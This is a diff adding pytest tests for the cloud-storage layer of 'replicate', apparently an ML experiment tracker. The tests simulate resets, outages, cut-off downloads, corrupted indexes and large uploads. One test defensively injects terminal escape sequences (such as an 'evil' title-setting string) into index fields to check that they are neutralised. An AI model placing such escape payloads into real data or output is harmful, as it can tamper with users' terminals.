+        script.go()
+        assert "can be reached again" in script.end()
+    assert sorted(bucket.checkpoints().values()) == [0, 1] and pending_leftovers(project) == []
+
+
+def test_an_outage_right_after_the_bucket_was_checked_does_not_stop_training(bucket, project, hasty):
+    bucket.proxy.rule = lambda request: "reset" if "heartbeats" in request.key else None
+    experiment = replicate.init(quiet=True)
+    experiment.checkpoint(metrics={"x": 1}, quiet=True)
+    until(lambda: bucket.checkpoints())
+    bucket.proxy.rule = lambda request: None
+    experiment.stop()
+    assert len(bucket.checkpoints()) == 1
+
+
+def test_a_request_that_gave_up_is_never_taken_for_done(s3_bucket, hasty):
+    """The number of attempts is lowered when a process ends, also of requests that are under way."""
+    storage = replicate.open_storage(s3_bucket.url)
+    storage.prepare()
+    seen = []
+
+    def rule(request):
+        seen.append(request)
+        if len(seen) == 4:
+            storage.attempts = 2
+        return "reset"
+
+    s3_bucket.proxy.rule = rule
+    with pytest.raises(replicate.ReplicateError):
+        storage.write("checkpoints/x", b"data")
+    assert "checkpoints/x" not in s3_bucket.keys()
+
+
+def test_what_is_not_sent_when_the_process_is_terminated_stays_pending(s3_bucket, project, training):
+    script = training("""
+        replicate.CloudStorage.FIRST_PAUSE, replicate.CloudStorage.LONGEST_PAUSE = 0.3, 0.3
+        experiment = replicate.init(quiet=True)
+        wait("init")
+        save(1)
+        wait("saved")
+        """)
+    script.expect("init")
+    until(lambda: s3_bucket.documents())
+    s3_bucket.proxy.rule = lambda request: "reset" if request.kind == "PUT" and "checkpoints/" in request.key else None
+    s3_bucket.proxy.clear()
+    script.go()
+    script.expect("saved")
+    until(lambda: s3_bucket.proxy.count("PUT", "checkpoints/") >= 4)
+    script.process.terminate()
+    assert "Not everything was sent" in script.end(code=-signal.SIGTERM)
+    assert len(pending_documents(project)[0]["checkpoints"]) == 1
+    s3_bucket.proxy.rule = lambda request: None
+    assert run("push").returncode == 0
+    for item in s3_bucket.checkpoints():
+        assert s3_bucket.files("checkpoints", item)
+    assert len(s3_bucket.checkpoints()) == 1
+
+
+def test_resuming_an_experiment_keeps_what_is_still_pending_of_it(bucket, project, hasty, training):
+    script = training("""
+        experiment = replicate.init(quiet=True)
+        wait(experiment.id)
+        save(1)
+        wait("saved")
+        """)
+    item = until(lambda: script.lines.get(timeout=60))
+    until(lambda: bucket.documents())
+    bucket.proxy.rule = lambda request: "reset" if request.kind in ("PUT", "START", "PART") and "checkpoints/" in request.key else None
+    script.go()
+    script.expect("saved")
+    until(lambda: [document for document in pending_documents(project) if document["checkpoints"]])
+    until(lambda: not [key for key in pending_leftovers(project) if key.endswith(".jsonl")])
+    script.kill()
+    bucket.proxy.rule = lambda request: None
+    experiment = replicate.experiments.get(item)
+    experiment.checkpoint(step=2, quiet=True)
+    experiment.stop()
+    run("push")
+    assert sorted(bucket.checkpoints().values()) == [1, 2]
+
+
+def test_a_checkpoint_after_stop_while_the_bucket_is_away(s3_bucket, project, hasty):
+    experiment = replicate.init(quiet=True)
+    experiment.checkpoint(step=0, quiet=True)
+    until(lambda: s3_bucket.checkpoints())
+    s3_bucket.proxy.down()
+    experiment.checkpoint(step=1, quiet=True)
+    experiment.stop()
+    assert [item["step"] for item in pending_documents(project)[0]["checkpoints"]] == [1]
+    experiment.checkpoint(step=2, quiet=True)
+    experiment.stop()
+    s3_bucket.proxy.up()
+    run("push")
+    assert sorted(s3_bucket.checkpoints().values()) == [0, 1, 2]
+
+
+def test_two_processes_of_one_project_record_into_one_experiment(s3_bucket, project, training):
+    first = training("""
+        experiment = replicate.init(quiet=True)
+        wait(experiment.id)
+        experiment.checkpoint(step=1, quiet=True)
+        experiment.stop()
+        """)
+    item = first.lines.get(timeout=60)
+    until(lambda: s3_bucket.documents())
+    second = training("""
+        experiment = replicate.experiments.get(sys.argv[1] if len(sys.argv) > 1 else os.environ["ITEM"])
+        experiment.checkpoint(step=2, quiet=True)
+        experiment.stop()
+        """, env={"ITEM": item})
+    second.end(timeout=20)
+    first.go()
+    first.end()
+    run("push")
+    assert sorted(s3_bucket.checkpoints().values()) == [1, 2]
+
+
+def test_a_bucket_that_is_deleted_during_training_costs_no_checkpoint(s3_bucket, project, training):
+    script = training("""
+        experiment = replicate.init(quiet=True)
+        save(0)
+        wait("init")
+        save(1)
+        wait("saved")
+        experiment.stop()
+        """)
+    script.expect("init")
+    until(lambda: s3_bucket.checkpoints())
+    until(lambda: not [key for key in pending_leftovers(project) if key.startswith("checkpoints/")])
+    s3_bucket.proxy.rule = lambda request: s3_bucket.proxy.s3_error(404, "NoSuchBucket", "The specified bucket does not exist")
+    s3_bucket.proxy.clear()
+    script.go()
+    script.expect("saved")
+    until(lambda: s3_bucket.proxy.count("PUT", "checkpoints/"))
+    script.go()
+    errors = script.end()
+    assert "no bucket" in errors, errors
+    assert [item["step"] for item in pending_documents(project)[0]["checkpoints"]] == [1], errors
+    s3_bucket.proxy.rule = lambda request: None
+    assert run("push").returncode == 0
+    assert sorted(s3_bucket.checkpoints().values()) == [0, 1]
+
+
+def test_an_upload_that_the_store_forgot_is_no_missing_file(s3_bucket, project, hasty):
+    """NoSuchUpload is a 404 too, and must not be taken for 'there are no files to send'."""
+    failed = []
+
+    def rule(request):
+        if request.kind == "PART" and not failed:
+            failed.append(request)
+            return s3_bucket.proxy.s3_error(404, "NoSuchUpload", "The specified upload does not exist")
+        return None
+
+    s3_bucket.proxy.rule = rule
+    (project / "model.bin").write_bytes(os.urandom(9 << 20))
+    experiment = replicate.init(quiet=True)
+    checkpoint = experiment.checkpoint(path="model.bin", quiet=True)
+    experiment.stop()
+    run("push")
+    assert failed and s3_bucket.checkpoints()
+    assert s3_bucket.files("checkpoints", checkpoint.id) == {"model.bin": (project / "model.bin").read_bytes()}
+
+
+def test_an_experiment_removed_from_the_bucket_is_not_put_back(bucket, project, training):
+    script = training("""
+        experiment = replicate.init(quiet=True)
+        save(0)
+        wait("saved")
+        save(1)
+        experiment.stop()
+        save(2)
+        """)
+    script.expect("saved")
+    until(lambda: bucket.checkpoints())
+    assert run("rm", "-f", bucket.documents()[0]["id"]).returncode == 0
+    script.go()
+    assert "was removed" in script.end()
+    assert bucket.keys() == ["repository.json"] and pending_leftovers(project) == []
+
+
+def test_checkpoints_removed_from_the_bucket_are_not_put_back(bucket, project, training):
+    script = training("""
+        experiment = replicate.init(quiet=True)
+        gone = save(0).id
+        save(1)
+        wait(gone)
+        save(2)
+        experiment.stop()
+        """)
+    gone = script.lines.get(timeout=60)
+    until(lambda: len(bucket.checkpoints()) == 2)
+    assert run("rm", "-f", gone).returncode == 0
+    script.go()
+    script.end()
+    assert sorted(bucket.checkpoints().values()) == [1, 2] and "checkpoints/%s.tar.gz" % gone not in bucket.keys()
+
+
+def test_a_misspelt_bucket_is_created_and_said_loudly(bucket, capsys):
+    assert not bucket.exists()
+    replicate.init(quiet=True).stop()
+    assert bucket.exists() and "%s did not exist: it was created" % bucket.bucket in capsys.readouterr().err
+
+
+def test_two_machines_that_create_the_bucket_at_once(bucket, hasty):
+    """The answer to the creation is lost, and the second try meets the bucket that the first has made."""
+    lost = []
+
+    def rule(request):
+        if request.kind == "CREATE" and not lost:
+            lost.append(request)
+            return "lost"
+        if request.kind == "CREATE":
+            return bucket.proxy.refusal(request, 409, "BucketAlreadyOwnedByYou", "You already own this bucket.")
+        return None
+
+    bucket.proxy.rule = rule
+    experiment = replicate.init(quiet=True)
+    experiment.stop()
+    assert lost and [item["id"] for item in bucket.documents()] == [experiment.id]
+
+
+# Faults on the wire.
+
+def unreliable(proxy, rate, seed=7):
+    """Let a share of all requests fail, each in one of the ways in which requests fail."""
+    dice = random.Random(seed)
+
+    def rule(request):
+        if dice.random() >= rate:
+            return None
+        kind = dice.choice(["500", "503", "reset", "cut", "lost"])
+        if kind == "500":
+            return proxy.refusal(request, 500, "InternalError", "We encountered an internal error.")
+        if kind == "503":
+            return proxy.refusal(request, 503, "SlowDown", "Please reduce your request rate.")
+        if kind == "cut" and request.kind == "GET":
+            return dice.choice([0, 10, 1000, 50000])
+        return "lost" if kind == "lost" else "reset"
+
+    proxy.rule = rule
+
+
+def test_nothing_is_lost_or_doubled_where_a_third_of_the_requests_fail(bucket, project, hasty, tmp_path, monkeypatch):
+    monkeypatch.setattr(replicate.CloudStorage, "ATTEMPTS", 30)  # so that the test itself does not fail once in a while
+    bucket.create()
+    unreliable(bucket.proxy, 0.3)
+    contents = {}
+    with replicate.init(path="replicate.yaml", quiet=True) as experiment:
+        for step in range(8):
+            contents[step] = os.urandom(200000 if step else 9 << 20)
+            (project / "model").write_bytes(contents[step])
+            experiment.checkpoint(path="model", step=step, quiet=True)
+            time.sleep(0.1)
+    while pending_documents(project):
+        assert replicate.main(["push"]) == 0
+    (document,) = bucket.documents()
+    assert [item["step"] for item in document["checkpoints"]] == list(range(8)) == list(bucket.checkpoints().values())
+    for item in document["checkpoints"]:
+        assert replicate.main(["checkout", item["id"], "-o", str(tmp_path / item["id"])]) == 0
+        assert tree(tmp_path / item["id"]) == {"model": contents[item["step"]], "replicate.yaml": (project / "replicate.yaml").read_bytes()}
+    assert len([request for request in bucket.proxy.requests if (request.status or 500) >= 500]) > 20
+    assert pending_leftovers(project) == []
+
+
+def cut_once(proxy, key, after_bytes, when=lambda request: True):
+    """Reset the first answer to a GET of key after so many bytes."""
+    cuts = []
+
+    def rule(request):
+        if request.kind == "GET" and request.key.endswith(key) and not cuts and when(request):
+            cuts.append(request)
+            return after_bytes
+        return None
+
+    proxy.rule = rule
+    return cuts
+
+
+def test_a_download_that_is_cut_off_goes_on_where_it_was(bucket, hasty):
+    bucket.create()
+    data = os.urandom(20 << 20)
+    bucket.put("big", data)
+    storage = replicate.open_storage(bucket.url)
+    second_part = (lambda request: True) if bucket.url.startswith("s3") else (lambda request: not request.range.startswith("bytes=0-"))
+    cuts = cut_once(bucket.proxy, "big", 5 << 20, second_part)
+    entry, open_range = storage.pin("big")
+    with open_range(0, len(data)) as stream:
+        assert stream.read() == data
+    ranges = [request.range for request in bucket.proxy.seen("GET", "big")]
+    starts = [int(re.match(r"bytes=(\d+)-\d+$", item).group(1)) for item in ranges]
+    assert len(cuts) == 1 and starts.count(0) == 1 and len(starts) >= 2, ranges
+    assert sum(request.served for request in bucket.proxy.seen("GET", "big")) <= len(data) + (8 << 20)
+    for request in bucket.proxy.seen("GET", "big"):
+        version = request.headers.get("If-Match", "").strip('"') or request.query.get("ifGenerationMatch")
+        assert version == entry.version
+    if bucket.url.startswith("s3"):
+        assert 0 < starts[1] <= 5 << 20 and len(starts) == 2
+
+
+def test_a_checkout_that_is_cut_off_arrives_whole(bucket, project, hasty, tmp_path, call):
+    (project / "model").write_bytes(os.urandom(6 << 20))
+    experiment = replicate.init(quiet=True)
+    checkpoint = experiment.checkpoint(path="model", quiet=True)
+    experiment.stop()
+    bucket.proxy.clear()
+    cuts = cut_once(bucket.proxy, ".tar.gz", 3 << 20, lambda request: request.kind == "GET" and (request.range or "bytes=0-").startswith("bytes=0-"))
+    code, _, errors = call("checkout", checkpoint.id, "-o", str(tmp_path / "out"))
+    assert code == 0, errors
+    assert cuts and (tmp_path / "out/model").read_bytes() == (project / "model").read_bytes()
+
+
+def test_an_object_that_is_replaced_during_its_download_is_an_error(bucket, project, hasty, tmp_path, call):
+    (project / "model").write_bytes(os.urandom(9 << 20))
+    experiment = replicate.init(quiet=True)
+    checkpoint = experiment.checkpoint(path="model", quiet=True)
+    experiment.stop()
+    key = "checkpoints/%s.tar.gz" % checkpoint.id
+    cuts = cut_once(bucket.proxy, key, 3 << 20, lambda request: request.kind == "GET" and (request.range or "bytes=0-").startswith("bytes=0-"))
+    other = archive_bytes(checkpoint.id, {"model": os.urandom(9 << 20)})
+    bucket.proxy.after = lambda request, status, headers, body: bucket.put(key, other) if len(cuts) == 1 and request is cuts[0] else None
+    code, _, errors = call("checkout", checkpoint.id, "-o", str(tmp_path / "out"))
+    assert cuts and code == 1 and "changed" in one_message(errors.replace("\n   │", "")), errors
+    assert not (tmp_path / "out").exists()
+    code, _, errors = call("checkout", checkpoint.id, "-o", str(tmp_path / "out"))
+    assert code == 0 and len(list((tmp_path / "out").iterdir())) == 1
+
+
+def test_a_document_that_is_replaced_while_it_is_read_is_read_again(bucket, hasty, call):
+    furnish(bucket, experiment_document(hex_id("1e"), user="before" * 3000))
+    new = json.dumps(experiment_document(hex_id("1e"), user="after" * 4000)).encode()
+    key = "metadata/experiments/%s.json" % hex_id("1e")
+    cuts = cut_once(bucket.proxy, key, 9000)
+    bucket.proxy.after = lambda request, status, headers, body: bucket.put(key, new) if cuts and request is cuts[0] else None
+    code, out, errors = call("show", "--json", "1e")
+    assert code == 0 and errors == "" and json.loads(out)["user"] in ("after" * 4000,)
+
+
+def test_a_stalled_connection_is_given_up(bucket, monkeypatch, hasty, call):
+    monkeypatch.setattr(replicate.CloudStorage, "TIMEOUT", 0.5)
+    sample(bucket)
+    stalls = []
+
+    def rule(request):
+        if request.kind == "LIST" and not stalls:
+            stalls.append(request)
+            return "stall"
+        return None
+
+    bucket.proxy.rule = rule
+    code, out, _ = call("ls", "-q")
+    assert code == 0 and len(out.split()) == 2 and stalls
+
+
+@pytest.mark.parametrize("command", [["ls"], ["show", "1e"], ["checkout", "1e"], ["rm", "-f", "1e"]])
+def test_a_refusal_is_one_sentence_and_not_tried_again(bucket, call, command):
+    sample(bucket)
+    bucket.proxy.rule = lambda request: bucket.proxy.refusal(request, message="Ben may not do that")
+    code, out, errors = call(*command)
+    assert code == 1 and out == "" and "Ben may not do that" in one_message(errors) and bucket.url in errors
+    assert bucket.proxy.count() == 1
+
+
+@pytest.mark.parametrize("command", [["ls"], ["ps"], ["show", "1e"], ["diff", "1e", "2e"], ["checkout", "1e"], ["rm", "-f", "1e"],
+                                     ["push", "--from", "BUCKET", "-R", "file://repo"]], ids=lambda words: words[0])
+def test_reading_a_missing_bucket_is_one_sentence_and_creates_none(bucket, call, command):
+    code, out, errors = call(*[word.replace("BUCKET", bucket.url) for word in command])
+    assert code == 1 and out == "", errors
+    assert "no bucket" in one_message(errors) or command[0] == "push" and "no repository" in one_message(errors)
+    assert bucket.url in errors and not bucket.exists() and bucket.proxy.count() <= 3
+    assert not bucket.proxy.count("CREATE") and not bucket.proxy.count("PUT")
+    with pytest.raises(replicate.DoesNotExist):
+        replicate.experiments.list()
+
+
+def test_a_missing_object_is_not_taken_for_a_missing_bucket(new_place):
+    place = new_place("gs")
+    place.bucket += "-bucket"
+    place.url += "-bucket"
+    place.create()
+    storage = replicate.open_storage(place.url)
+    for read in (storage.read, storage.stat):
+        with pytest.raises(replicate.DoesNotExist) as raised:
+            read("some/key")
+        assert "no bucket" not in str(raised.value) and "some/key" in str(raised.value)
+
+
+def test_the_service_being_down_is_one_sentence(bucket, hasty, call):
+    sample(bucket)
+    bucket.proxy.rule = lambda request: bucket.proxy.refusal(request, 503, "ServiceUnavailable", "Come back later")
+    code, out, errors = call("ls")
+    assert code == 1 and "Come back later" in one_message(errors) and bucket.proxy.count() == replicate.CloudStorage.ATTEMPTS
+
+
+# Counted requests.
+
+def kinds(proxy):
+    """{kind: how many} of the requests."""
+    found = {}
+    for request in proxy.requests:
+        found[request.kind] = found.get(request.kind, 0) + 1
+    return found
+
+
+@pytest.fixture
+def shelf(new_place, project, monkeypatch):
+    """An S3 repository in memory, used by the project; `shelf.fill(count)` adds experiments."""
+    made = Shelf()
+    for variable, value in CLOUD_KEYS.items():
+        monkeypatch.setenv(variable, value)
+    monkeypatch.setenv("AWS_ENDPOINT_URL", made.address)
+    (project / "replicate.yaml").write_text("repository: s3://shelf\n")
+    made.store("repository.json", b'{"version":1}')
+    dice = random.Random(5)
+
+    def fill(count):
+        ids = ["%064x" % dice.getrandbits(256) for _ in range(count)]
+        for number, item in enumerate(ids):
+            made.store("metadata/experiments/%s.json" % item, json.dumps(experiment_document(item, params={"n": number})).encode())
+        return ids
+
+    made.fill = fill
+    yield made
+    made.close()
+
+
+def fresh_machine(monkeypatch, tmp_path):
+    """Be a machine that has never listed anything."""
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / uuid.uuid4().hex))
+    return Path(os.environ["XDG_CACHE_HOME"])
+
+
+def listed_params(call):
+    code, out, errors = call("ls", "--json")
+    assert code == 0 and errors == "", errors
+    return {row["id"]: row["params"].get("n") for row in json.loads(out)}
+
+
+@pytest.mark.parametrize("skew", [0, 3600, -3600])
+def test_a_warm_listing_reads_only_what_changed(bucket, call, skew):
+    """However the clocks differ: the store says of each document which version it is."""
+    ids = ["%064x" % number for number in range(20)]
+    furnish(bucket, *[experiment_document(item, params={"n": 0}) for item in ids])
+    bucket.proxy.shift = skew
+    assert len(listed_params(call)) == 20
+    assert kinds(bucket.proxy) == {"LIST": 2, "GET": 21}  # experiments and heartbeats; repository.json and the documents
+    time.sleep(2.2 if not skew else 0)
+    listed_params(call)
+    bucket.proxy.clear()
+    listed_params(call)
+    assert kinds(bucket.proxy) == {"LIST": 2, "GET": 1} and bucket.proxy.seen("GET")[0].key == "repository.json"
+    for item in ids[3:5]:
+        bucket.put("metadata/experiments/%s.json" % item, json.dumps(experiment_document(item, params={"n": 1})).encode())
+    bucket.remove("metadata/experiments/%s.json" % ids[7])
+    bucket.proxy.clear()
+    assert listed_params(call) == {item: int(item in ids[3:5]) for item in ids if item != ids[7]}
+    assert kinds(bucket.proxy) == {"LIST": 2, "GET": 3}
+
+
+def test_documents_that_have_just_changed_are_not_read_twice(bucket, call):
+    furnish(bucket, *[experiment_document("%064x" % number) for number in range(5)])
+    listed_params(call)
+    bucket.proxy.clear()
+    listed_params(call)
+    assert kinds(bucket.proxy) == {"LIST": 2, "GET": 1}
+
+
+@pytest.mark.parametrize("skew", [0, 7200, -7200])
+def test_running_is_told_from_the_listing_and_the_clock_of_the_store(bucket, call, skew):
+    ids = [hex_id("1e"), hex_id("2e")]
+    furnish(bucket, *[experiment_document(item) for item in ids])
+    bucket.put("metadata/heartbeats/%s.json" % ids[0], b"what is in it does not matter")
+    bucket.proxy.shift = skew
+    assert call("ps", "-q")[1].split() == [ids[0]]
+    assert "running" in call("show", ids[0])[1] and "stopped" in call("show", ids[1])[1]
+    assert replicate.experiments.get(ids[0]).is_running() and not replicate.experiments.get(ids[1]).is_running()
+    assert not bucket.proxy.seen("GET", "heartbeats")
+
+
+def test_an_old_heartbeat_is_a_stopped_experiment(shelf, call):
+    ids = shelf.fill(2)
+    shelf.store("metadata/heartbeats/%s.json" % ids[0], b"{}", age=10)
+    shelf.store("metadata/heartbeats/%s.json" % ids[1], b"{}", age=40)
+    assert call("ps", "-q")[1].split() == [ids[0]]
+    shelf.shift = -5000
+    assert call("ps", "-q")[1].split() == [ids[0]]
+
+
+def test_a_new_machine_lists_thousands_in_thirty_requests(shelf, call, monkeypatch, tmp_path):
+    """With 3,000 instead of 10,000, which need no more requests: the listing is split by the 16 hex digits, and none
+    of them has more than the 1,000 of one page either way."""
+    ids = shelf.fill(3000)
+    first = listed_params(call)
+    assert len(first) == 3000 and shelf.count("PUT") == 1 and shelf.seen("PUT")[0].key == "index/summaries-1.gz"
+    fresh_machine(monkeypatch, tmp_path)
+    shelf.clear()
+    assert listed_params(call) == first
+    assert shelf.count() <= 30 and kinds(shelf)["GET"] <= 2 and kinds(shelf)["LIST"] <= 2 + 16 and not shelf.count("PUT"), kinds(shelf)
+    shelf.clear()
+    assert listed_params(call) == first
+    assert kinds(shelf)["GET"] == 1 and shelf.count() <= 20
+    for item in ids[::100]:
+        shelf.store("metadata/experiments/%s.json" % item, json.dumps(experiment_document(item, params={"n": -1})).encode())
+    fresh_machine(monkeypatch, tmp_path)
+    shelf.clear()
+    found = listed_params(call)
+    assert [item for item in ids if found[item] == -1] == ids[::100]
+    assert kinds(shelf)["GET"] == 2 + 30 and not shelf.count("PUT")
+
+
+def test_experiments_that_came_a_few_at_a_time_are_in_the_index_too(shelf, call, monkeypatch, tmp_path):
+    for _ in range(5):
+        shelf.fill(50)
+        assert call("ls", "-q")[0] == 0
+    fresh_machine(monkeypatch, tmp_path)
+    shelf.clear()
+    assert len(listed_params(call)) == 250
+    assert shelf.count() <= 30 + 100, kinds(shelf)  # less than a hundred may be out of date
+
+
+def index_lines(shelf):
+    return gzip.decompress(shelf.objects["index/summaries-1.gz"][0]).split(b"\n")
+
+
+def spoiled_index(lines, how):
+    """Another content for the index object."""
+    if how == "empty":
+        return b""
+    if how == "not gzip":
+        return b"hello" * 1000
+    if how == "truncated":
+        return gzip.compress(b"\n".join(lines))[:-500]
+    if how == "trailing rubbish":
+        return gzip.compress(b"\n".join(lines)) + b"rubbish"
+    changed = []
+    for line in lines:
+        item, version, text = line.split(b" ", 2)
+        summary = json.loads(text)
+        if how == "fields missing":
+            summary = {"id": summary["id"]} if len(changed) % 2 else {name: summary[name] for name in list(summary)[:-2]}
+        elif how == "other versions":
+            version, summary["params"] = b"0" * 32, {"n": -7}
+        elif how == "other IDs":
+            summary["params"] = {"n": -7}
+            item = item[::-1]
+        elif how == "wrong types":
+            text = random.Random(len(changed)).choice([b"[]", b"7", b"null", b"{", b"{}", b'"x"', b'{"id":5}', b"[" * 5000, b"\xff\xfe", b"NaN"])
+            changed.append(item + b" " + version + b" " + text)
+            continue
+        elif how == "no spaces":
+            changed.append(item + version)
+            continue
+        elif how == "wrong fields":
+            for name in list(summary):
+                if name != "id":
+                    summary[name] = random.Random(len(changed) + len(name)).choice([5, [], {"a": {}}, "x", True, [[]], -1, "\x1b]0;x\x07"])
+        elif how == "the ID of another":
+            summary["id"], summary["params"] = "f" * 64, {"n": -7}
+        changed.append(b" ".join([item, version, json.dumps(summary).encode()]))
+    return gzip.compress(b"\n".join(changed))
+
+
+@pytest.mark.parametrize("how", ["empty", "not gzip", "truncated", "trailing rubbish", "other versions", "other IDs", "wrong types",
+                                 "no spaces", "the ID of another", "fields missing"])
+def test_a_bad_index_never_shows_wrong_data(shelf, call, monkeypatch, tmp_path, how):
+    shelf.fill(120)
+    first = listed_params(call)
+    lines = index_lines(shelf)
+    assert len(lines) == 120 and json.loads(lines[0].split(b" ", 2)[2])["id"] == lines[0][:64].decode()
+    shelf.store("index/summaries-1.gz", spoiled_index(lines, how))
+    fresh_machine(monkeypatch, tmp_path)
+    assert listed_params(call) == first
+    fresh_machine(monkeypatch, tmp_path)
+    assert listed_params(call) == first  # now that it has been mended
+
+
+def test_hostile_fields_in_the_index_break_nothing(shelf, call, monkeypatch, tmp_path):
+    """Whoever can write the index can write documents too; but nothing in it may break a listing or reach the terminal raw."""
+    ids = shelf.fill(120)
+    listed_params(call)
+    lines = index_lines(shelf)
+    shelf.store("index/summaries-1.gz", spoiled_index(lines, "wrong fields"))
+    for arguments in (["ls"], ["ls", "--all"], ["ls", "--json"], ["ls", "-f", "n > 3", "--sort", "host"], ["show", ids[0]]):
+        fresh_machine(monkeypatch, tmp_path)
+        code, out, errors = call(*arguments)
+        assert code == 0 and "\x1b" not in out and "\x1b" not in errors and "unexpected" not in errors, (arguments, errors)
+    shelf.store("index/summaries-1.gz", gzip.compress(b"\n".join(
+        line.replace(b"andreas", b"\\u001b]0;evil\\u0007") for line in lines)))
+    fresh_machine(monkeypatch, tmp_path)
+    code, out, errors = call("ls", "--all")
+    assert code == 0 and "\x1b" not in out and "\x07" not in out
+
+
+def test_the_index_is_rewritten_only_when_a_tenth_is_out_of_date(shelf, call, monkeypatch, tmp_path):
+    ids = shelf.fill(1100)
+
+    def change(count):
+        for item in ids[:count]:
+            shelf.store("metadata/experiments/%s.json" % item, json.dumps(experiment_document(item, params={"n": time.time()})).encode())
+        fresh_machine(monkeypatch, tmp_path)
+        shelf.clear()
+        listed_params(call)
+        return shelf.count("PUT"), kinds(shelf)["GET"] - 2
+
+    listed_params(call)
+    assert change(104) == (0, 104)  # a hundred, but no tenth
+    assert change(112) == (1, 112)
+    assert change(0) == (0, 0)
+    shelf.objects.clear()
+    shelf.store("repository.json", b'{"version":1}')
+    ids[:] = shelf.fill(90)
+    assert change(0)[0] == 0  # less than a hundred
+
+
+def test_a_reader_without_permission_to_write(shelf, call, monkeypatch, tmp_path):
+    shelf.fill(150)
+    shelf.rule = lambda request: shelf.refusal(request) if request.method in ("PUT", "POST", "DELETE") else None
+    assert len(listed_params(call)) == 150  # which asserts that there is no message
+    assert shelf.count("PUT") == 1 and "index/summaries-1.gz" not in shelf.objects
+    fresh_machine(monkeypatch, tmp_path)
+    assert len(listed_params(call)) == 150
+
+
+def test_the_local_cache_is_private_and_may_go_at_any_time(shelf, call, monkeypatch, tmp_path):
+    cache = fresh_machine(monkeypatch, tmp_path)
+    shelf.fill(50)
+    first = listed_params(call)
+    assert (cache / "replicate").stat().st_mode & 0o777 == 0o700
+    (name,) = (cache / "replicate").iterdir()
+    assert name.stat().st_mode & 0o077 == 0
+    content = name.read_bytes()
+    for bad in (b"", content[:1000], b"\0" * 1000, os.urandom(5000), content.replace(b" ", b""), b"\n" * 100,
+                content.replace(b'"params"', b'"parans"'), re.sub(rb" \{", b" [{", content)):
+        name.write_bytes(bad)
+        assert listed_params(call) == first
+    name.unlink()
+    name.mkdir()
+    assert listed_params(call) == first
+    shutil.rmtree(cache)
+    assert listed_params(call) == first
+    shutil.rmtree(cache)
+    cache.write_bytes(b"not a directory")
+    assert listed_params(call) == first
+    cache.unlink()
+    (cache / "replicate").mkdir(parents=True)
+    for number in range(100):
+        (cache / "replicate" / ("old%d" % number)).write_bytes(b"x")
+    listed_params(call)
+    assert len(list((cache / "replicate").iterdir())) <= 64
+
+
+def test_processes_that_list_at_once_share_the_cache(shelf, call, monkeypatch, tmp_path):
+    cache = fresh_machine(monkeypatch, tmp_path)
+    ids = shelf.fill(200)
+    started = [subprocess.Popen([sys.executable, str(PROGRAM), "ls", "-q"], stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(3)]
+    for process in started:
+        out, errors = process.communicate(timeout=60)
+        assert process.returncode == 0 and sorted(out.decode().split()) == sorted(ids), errors
+    assert len(list((cache / "replicate").iterdir())) == 1
+    shelf.clear()
+    assert len(listed_params(call)) == 200 and kinds(shelf)["GET"] == 1
+
+
+def test_documents_that_vanish_or_change_between_listing_and_reading(bucket, call):
+    ids = [hex_id("%de" % number) for number in range(1, 5)]
+    furnish(bucket, *[experiment_document(item, user="before") for item in ids])
+    done = []
+
+    def meddle(request, status, headers, body):
+        if request.kind == "LIST" and "experiments" in request.query.get("prefix", "") and not done:
+            done.append(request)
+            bucket.remove("metadata/experiments/%s.json" % ids[0])
+            bucket.put("metadata/experiments/%s.json" % ids[1], json.dumps(experiment_document(ids[1], user="after")).encode())
+
+    bucket.proxy.after = meddle
+    code, out, errors = call("ls", "--json")
+    assert code == 0 and errors == "" and done
+    assert {row["id"]: row["user"] for row in json.loads(out)} == {ids[1]: "after", ids[2]: "before", ids[3]: "before"}
+    assert {row["id"]: row["user"] for row in json.loads(call("ls", "--json")[1])} == {
+        ids[1]: "after", ids[2]: "before", ids[3]: "before"}
+    del done[:]
+    furnish_one = json.dumps(experiment_document(ids[0])).encode()
+    bucket.put("metadata/experiments/%s.json" % ids[0], furnish_one)
+    assert len(replicate.experiments.list()) == 3 and done
+
+
+def test_two_machines_that_record_into_one_experiment_lose_nothing(bucket, project, training, tmp_path):
+    experiment = replicate.init(quiet=True)
+    experiment.stop()
+    scripts = []
+    for number in range(2):
+        machine = tmp_path / ("machine%d" % number)
+        machine.mkdir()
+        (machine / "replicate.yaml").write_text("repository: %s\n" % bucket.url)
+        scripts.append(training("""
+            replicate.FOLD_INTERVAL = 0.02
+            experiment = replicate.experiments.get(os.environ["ITEM"])
+            for step in range(12):
+                save(step + int(os.environ["BASE"]))
+                time.sleep(0.02)
+            experiment.stop()
+            """, cwd=machine, env={"ITEM": experiment.id, "BASE": str(100 * number)}))
+    for script in scripts:
+        script.end()
+    assert sorted(bucket.checkpoints().values()) == list(range(12)) + list(range(100, 112))
+    for item, step in bucket.checkpoints().items():
+        assert bucket.files("checkpoints", item)["model.bin"].startswith(b"step %d" % step)
+
+
+# Much data.
+
+MEASURE = """
+import resource, sys, replicate
+{}
+try:  # ru_maxrss would count what the parent had before the exec
+    print([line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM")][0])
+except OSError:
+    print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
+"""
+
+
+def test_memory_stays_small_while_gigabytes_are_uploaded(bucket, tmp_path):
+    bucket.create()
+    bucket.proxy.sink = True
+    size = (2 if bucket.url.startswith("s3") else 1) << 30
+    with open(tmp_path / "big", "wb") as file:
+        file.truncate(size)
+    done = run_script(MEASURE.format("replicate.open_storage(sys.argv[1]).upload('big', sys.argv[2])"), bucket.url, tmp_path / "big")
+    assert bucket.proxy.count("PART") == size >> 23
+    assert int(done.stdout) < 150 << 10, done.stdout
+
+
+def test_memory_stays_small_while_half_a_gigabyte_is_checked_out(s3_bucket, project, tmp_path):
+    """Stored without compression, as it would be of weights; 2 GB would take a slow machine too long."""
+    furnish(s3_bucket, experiment_document(hex_id("1e"), checkpoints=[checkpoint_document(hex_id("1c"), path="big")]))
+    size = 1 << 29
+    with gzip.open(tmp_path / "archive", "wb", compresslevel=0) as file:
+        member = tarfile.TarInfo("%s/big" % hex_id("1c"))
+        member.size = size
+        file.write(member.tobuf())
+        for _ in range(size >> 20):
+            file.write(bytes(1 << 20))
+        file.write(bytes(1024))
+    s3_bucket.proxy.source = ("checkpoints/%s.tar.gz" % hex_id("1c"), str(tmp_path / "archive"))
+    done = run_script(MEASURE.format("assert replicate.main(['checkout', sys.argv[1], '-o', sys.argv[2]]) == 0"),
+                      hex_id("1c"), tmp_path / "out")
+    assert (tmp_path / "out/big").stat().st_size == size
+    assert int(done.stdout) < 150 << 10, done.stdout
